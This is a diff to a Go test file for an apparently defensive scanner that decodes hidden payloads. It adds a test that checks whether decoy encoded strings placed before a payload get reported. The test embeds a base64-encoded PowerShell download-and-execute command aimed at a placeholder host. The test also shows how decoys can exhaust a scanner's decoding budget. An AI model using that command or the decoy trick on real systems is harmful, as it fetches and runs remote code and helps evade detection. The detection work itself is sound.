@@ -5,10 +5,13 @@ import (
 	"compress/flate"
 	"compress/gzip"
 	"encoding/base64"
+	"fmt"
 	"strings"
 	"testing"
 
 	"unicode/utf16"
+
+	"hunt/report/encoded"
 )
 
 func wide(s string) []byte {
@@ -122,6 +125,24 @@ func TestNothingIsGuessed(t *testing.T) {
 	} {
 		if have := unpacked(s); len(have) > 0 {
 			t.Errorf("%q: %q", s, have)
+		}
+	}
+}
+
+// What hides a payload behind text that looks encoded does not hide that hunt stopped looking.
+func TestDecoysBeforeAPayloadAreTold(t *testing.T) {
+	payload := base64.StdEncoding.EncodeToString([]byte("IEX (New-Object Net.WebClient).DownloadString('http://a.example/')"))
+	for _, c := range []struct {
+		decoys int
+		told   bool
+	}{{encoded.MaxRuns - 1, false}, {encoded.MaxRuns, true}} {
+		var b strings.Builder
+		for i := range c.decoys {
+			fmt.Fprintf(&b, "%040d ", i)
+		}
+		u := unpacker{seen: map[string]bool{}, budget: maxDecodedFinding}
+		if u.unpack(b.String()+payload, 0); u.full != c.told || (len(u.out) == 1) == c.told {
+			t.Errorf("%d decoys: %d parts, told: %v", c.decoys, len(u.out), u.full)
 		}
 	}
 }
